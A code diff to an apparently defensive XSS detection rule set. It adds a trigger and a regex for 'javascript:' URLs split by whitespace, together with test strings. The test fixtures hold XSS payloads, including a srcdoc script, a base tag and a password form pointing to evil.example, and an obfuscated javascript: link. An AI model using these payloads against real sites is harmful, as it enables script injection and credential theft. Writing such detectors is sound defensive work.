@@ -114,7 +114,7 @@ export const xssRules: readonly Rule[] = [
     description:
       'Markup that runs or loads script by a side door: encoded or data: URLs, srcdoc, base, imports, styles, SVG.',
     triggers:
-      'data:text/html data:x, srcdoc <meta <base <form rel="import" rel=import expression( text/x-scriptlet attributename= <isindex &{ +adw-script'.split(
+      'data:text/html data:x, srcdoc <meta <base <form href="j href=\'j src="j src=\'j action="j rel="import" rel=import expression( text/x-scriptlet attributename= <isindex &{ +adw-script'.split(
         ' ',
       ),
     pattern: [
@@ -122,6 +122,7 @@ export const xssRules: readonly Rule[] = [
       'srcdoc\\s{0,3}=\\s{0,3}["\']?[^\\n]{0,200}?(?:script|\\son\\w{3,20}=)[^>]{0,100}',
       '<meta\\s[^<>]{0,60}refresh[^<>]{0,60}url\\s{0,3}=\\s{0,3}["\']?(?:javascript|data|https?):(?<!<(?:head|html|title)[^]{0,400})[^>]{1,200}',
       '<base\\s{1,3}href\\s{0,3}=\\s{0,3}["\']?(?:https?:)?//[^>]{1,200}',
+      '(?:href|src|action)=["\'](?=[^"\':]{0,14}[\\t\\r\\n])j\\s?a\\s?v\\s?a\\s?s\\s?c\\s?r\\s?i\\s?p\\s?t\\s?:[^"\'<>]{1,200}',
       '<form\\s[^<>]{0,100}?action\\s?=\\s?["\']?https?://(?!localhost|127\\.)[^<>]{4,200}>[^]{0,300}?<input\\s[^<>]{0,100}?(?:name|type)\\s?=\\s?["\']?(?:password|passwd|pwd|cvv|card_?number|otp)\\b[^<>]{0,100}>',
       '(?<=<link\\s)rel="?import"?\\s{1,3}href="?(?:https?:)?//[^>]{1,100}',
       '(?<=:\\s{0,3})expression\\((?:alert|eval|document|window)[^>]{0,100}',
@@ -136,6 +137,7 @@ export const xssRules: readonly Rule[] = [
         { text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
         { text: '[notes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
         { text: '<base href="https://evil.example/">' },
+        { text: '<a href="java\tscript:go()">x</a>' },
         { text: '<form action="https://evil.example/c" method=post><input name=password></form>' },
       ],
       no_match: [
